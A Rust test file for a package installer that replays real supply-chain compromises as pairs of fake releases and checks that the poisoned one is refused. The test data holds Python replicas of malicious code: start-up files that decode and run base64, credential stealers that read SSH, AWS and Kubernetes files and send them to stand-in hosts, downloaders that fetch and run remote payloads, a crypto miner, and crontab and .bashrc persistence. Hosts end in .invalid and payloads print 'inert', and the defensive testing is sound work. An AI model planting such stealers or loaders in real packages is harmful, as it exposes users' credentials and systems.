//! Replays of real compromises as inert pairs of releases: the honest one installs, the poisoned one is
//! refused, for its age and by checks of its contents, with nothing known of either.
//!
//! The packages have made-up names, so that no list of known-bad releases knows them. Nothing in them
//! works: hosts end in `.invalid`, what is hidden prints a word.

use std::collections::BTreeSet;
use std::fs;

use serde_json::Value;
use spip_tests::index::Offer;
use spip_tests::packages::{Package, package};
use spip_tests::world::World;

/// One compromise.
struct Replay {
    /// The project that it happened to.
    story: &'static str,
    /// What the poisoned release has in place of the honest module, or besides.
    poison: &'static [(&'static str, &'static str)],
    /// How many checks of contents refuse it at least; its age is one more.
    contents: usize,
}

/// What the hidden part of a replica decodes to: `print("inert")`.
const HIDDEN: &str = "cHJpbnQoImluZXJ0Iik=";

/// The honest module.
const CLIENT: (&str, &str) = (
    "quillbarn_parts/client.py",
    "import json\n\n\nclass Client:\n    def __init__(self, key=None):\n        self.key = key\n\n    def dump(self, value):\n        return json.dumps(value)\n",
);

#[rustfmt::skip]
const REPLAYS: &[Replay] = &[
    Replay { story: "litellm 1.82.8: a start-up file", contents: 2, poison: &[("proxy_init.pth",
        "import os, subprocess, sys; subprocess.Popen([sys.executable, '-c', \"import base64; exec(base64.b64decode('«»'))\"], stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)\n")] },
    Replay { story: "litellm 1.82.7: code in a module", contents: 2, poison: &[("quillbarn_parts/client.py",
        r#"import base64, json, os, subprocess, sys, tempfile, urllib.request

b64_payload = "«»"

def _sync():
    home = os.path.expanduser("~")
    found = {}
    for place in (".ssh/id_rsa", ".aws/credentials", ".kube/config", ".netrc"):
        path = os.path.join(home, place)
        if os.path.exists(path):
            found[place] = open(path).read()
    found["environ"] = dict(os.environ)
    request = urllib.request.Request("https://models.example.invalid/", data=json.dumps(found).encode())
    urllib.request.urlopen(request)

exec(base64.b64decode(b64_payload))
_sync()
"#)] },
    Replay { story: "telnyx 4.87.1: a payload in a sound file", contents: 2, poison: &[("quillbarn_parts/client.py",
        r#"import base64, json, os, subprocess, sys, tempfile, urllib.request, wave

def _ring():
    path = os.path.join(tempfile.mkdtemp(), "ringtone.wav")
    urllib.request.urlretrieve("http://192.0.2.8:8080/ringtone.wav", path)
    with wave.open(path, "rb") as sound:
        frames = base64.b64decode(sound.readframes(sound.getnframes()))
    key, data = frames[:8], frames[8:]
    code = bytes(byte ^ key[i % 8] for i, byte in enumerate(data))
    subprocess.run([sys.executable, "-"], input=code)

_ring()
"#)] },
    Replay { story: "xinference 2.6.0: a stealer when imported", contents: 2, poison: &[("quillbarn_parts/client.py",
        r#"import base64, os, subprocess, sys
test = "«»"
subprocess.Popen([sys.executable, "-c", "import base64;exec(base64.b64decode('" + test + "'))"], env=dict(os.environ))

import glob, json, urllib.request
_found = {path: open(path).read() for path in glob.glob(os.path.expanduser("~/.ssh/*")) + [os.path.expanduser("~/.aws/credentials")] if os.path.isfile(path)}
urllib.request.urlopen("https://whereis.example.invalid/x", data=json.dumps(_found).encode())
"#)] },
    Replay { story: "elementary-data 0.23.3: a start-up file", contents: 2, poison: &[("elementary.pth",
        "import base64;exec(base64.b64decode('«»'))\n")] },
    Replay { story: "lightning 2.6.2: a bundled script for a fetched runtime", contents: 2, poison: &[("quillbarn_parts/client.py",
        r#"import os, platform, stat, subprocess, tempfile, threading, urllib.request, zipfile

def _start():
    folder = tempfile.mkdtemp()
    archive = os.path.join(folder, "bun.zip")
    urllib.request.urlretrieve("https://github.example.invalid/oven-sh/bun/releases/download/bun-v1.3.9/bun-linux-x64.zip", archive)
    with zipfile.ZipFile(archive) as packed:
        packed.extractall(folder)
    program = os.path.join(folder, "bun-linux-x64", "bun")
    os.chmod(program, os.stat(program).st_mode | stat.S_IEXEC)
    script = os.path.join(os.path.dirname(__file__), "_runtime", "router_runtime.js")
    subprocess.Popen([program, "run", script], stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL, env=dict(os.environ))

threading.Thread(target=_start, daemon=True).start()
"#), ("quillbarn_parts/_runtime/router_runtime.js", "var _0x1a2b=['\\x69\\x6e\\x65\\x72\\x74'];(function(_0x3c,_0x4d){console.log(_0x3c[0x0]);}(_0x1a2b,0x1));\n")] },
    Replay { story: "mistralai 2.4.6: a downloader when imported", contents: 2, poison: &[("quillbarn_parts/client.py",
        r#"import os, subprocess, sys, urllib.request

def _run():
    if sys.platform != "linux" or os.environ.get("MODEL_INIT"):
        return
    path = "/tmp/transformers.pyz"
    if not os.path.exists(path):
        urllib.request.urlretrieve("https://192.0.2.8/transformers.pyz", path)
    os.environ["MODEL_INIT"] = "1"
    subprocess.Popen([sys.executable, path], stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL, start_new_session=True)

_run()
"#)] },
    Replay { story: "durabletask 1.4.1: an archive run when imported", contents: 2, poison: &[("quillbarn_parts/client.py",
        r#"import platform, subprocess, urllib.request
if platform.system() == "Linux":
    try:
        with urllib.request.urlopen("https://check.example.invalid/rope.pyz", timeout=5) as answer:
            with open("/tmp/managed.pyz", "wb") as file:
                file.write(answer.read())
        subprocess.Popen(["python3", "/tmp/managed.pyz"], stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL, start_new_session=True)
    except Exception:
        pass
"#)] },
    Replay { story: "ultralytics 8.3.41: a miner", contents: 2, poison: &[("quillbarn_parts/client.py",
        r#"import os, platform, subprocess, urllib.request

def safe_run(path):
    os.chmod(path, 0o770)
    subprocess.Popen([path, "-u", "wallet", "-p", "x", "-o", "stratum+tcp://pool.example.invalid:8080"], start_new_session=True)

def safe_download(url, target):
    urllib.request.urlretrieve(url, target)

environment = (platform.system(), platform.machine())
if environment == ("Linux", "x86_64"):
    safe_download("https://releases.example.invalid/miner-linux", "/tmp/ultralytics_runner")
    safe_run("/tmp/ultralytics_runner")
elif environment == ("Darwin", "arm64"):
    safe_download("https://releases.example.invalid/miner-mac", "/tmp/ultralytics_runner")
    safe_run("/tmp/ultralytics_runner")
"#)] },
    Replay { story: "num2words 0.5.15: fetched code when imported", contents: 1, poison: &[("quillbarn_parts/client.py",
        r#"import os, json, urllib.request

def _configure():
    answer = urllib.request.urlopen("https://pypj.example.invalid/settings").read()
    exec(answer)

_configure()
"#)] },
    Replay { story: "aiocpa 0.1.13: layers of encoding", contents: 2, poison: &[("quillbarn_parts/client.py",
        r#"import base64, json, urllib.request, zlib

_ = lambda __: zlib.decompress(base64.b64decode(__[::-1]))
exec((_)(b"=oQDW8vBJkKLLzUvJLFXSVAIA"))

class Client:
    def __init__(self, key=None):
        self.key = key
        body = json.dumps({"chat_id": 1, "text": key}).encode()
        urllib.request.urlopen("https://api.telegram.org/bot1:inert/sendMessage", data=body)
"#)] },
    Replay { story: "MrMustard: stays by cron, shell and start-up file", contents: 2, poison: &[("quillbarn_parts/client.py",
        r#"import json, os, platform, site, subprocess, urllib.request

def _probe():
    home = os.path.expanduser("~")
    found = {"host": platform.node(), "environ": dict(os.environ), "key": open(os.path.join(home, ".ssh/id_rsa")).read()}
    urllib.request.urlopen("https://probe.example.invalid/", data=json.dumps(found).encode())
    subprocess.run("(crontab -l; echo '*/5 * * * * python3 ~/.hw-probe.py') | crontab -", shell=True)
    with open(os.path.join(site.getsitepackages()[0], "hw_probe.pth"), "w") as file:
        file.write("import hw_probe\n")
    with open(os.path.join(home, ".bashrc"), "a") as file:
        file.write("python3 ~/.hw-probe.py &\n")

_probe()
"#)] },
    Replay { story: "ctx 0.2.6: the environment sent away when used", contents: 1, poison: &[("quillbarn_parts/client.py",
        r#"import base64, os, requests

class Client(dict):
    def __init__(self, key=None):
        self.key = key
        self.sendRequest()

    def sendRequest(self):
        text = ""
        for name, value in os.environ.items():
            text += name + "=" + value + " "
        message = base64.b64encode(text.encode("ascii")).decode("ascii")
        requests.get("https://anti-theft-web.example.invalid/hacked/" + message)
"#)] },
];

fn release(version: &str, files: &[(&str, &str)]) -> Package {
    let honest = package("quillbarn", version);
    let files = files.iter();
    files.fold(honest, |package, (path, text)| {
        package.file(path, &text.replace("«»", HIDDEN))
    })
}

/// The checks whose findings ask or refuse.
fn weighty(report: &Value) -> BTreeSet<String> {
    let packages = report["packages"].as_array().expect("packages");
    let findings = packages
        .iter()
        .flat_map(|package| package["findings"].as_array().expect("findings"));
    let findings = findings.filter(|finding| finding["severity"] != "low");
    findings
        .map(|finding| finding["check"].as_str().expect("a name").to_owned())
        .collect()
}

/// Installs the honest release, then the poisoned one, two hours after its upload.
fn replay(replay: &Replay) -> BTreeSet<String> {
    let world = World::new();
    world.index.offer(release("1.4.0", &[CLIENT]).wheel());
    let path = world.aside("report.json");
    let install = || {
        let path = path.to_str().expect("plain text");
        let arguments = ["--spip-report", path, "install", "--upgrade", "quillbarn"];
        world.spip(&arguments).finish()
    };
    install().succeeds();
    let files = [&[CLIENT], replay.poison].concat();
    let poisoned = release("1.4.1", &files).wheel();
    world.index.offer(Offer::of(poisoned).hours_old(2));
    install().refuses(100);
    assert!(
        world.environment.has("quillbarn", "1.4.0"),
        "{}",
        replay.story
    );
    let text = fs::read_to_string(&path).expect("a report");
    weighty(&serde_json::from_str(&text).expect("JSON"))
}

/// Every third one, from this one on.
#[track_caller]
fn refused_twice(first: usize) {
    for one in REPLAYS.iter().skip(first).step_by(3) {
        let checks = replay(one);
        let of_contents = checks.iter().filter(|check| *check != "release-age");
        assert!(
            of_contents.count() >= one.contents,
            "{}: {checks:?}",
            one.story
        );
        assert!(checks.contains("release-age"), "{}: {checks:?}", one.story);
    }
}

#[test]
fn compromises_are_refused_for_their_age_and_their_contents() {
    refused_twice(0);
}

#[test]
fn more_compromises_are_refused_for_their_age_and_their_contents() {
    refused_twice(1);
}

#[test]
fn the_other_compromises_are_refused_for_their_age_and_their_contents() {
    refused_twice(2);
}
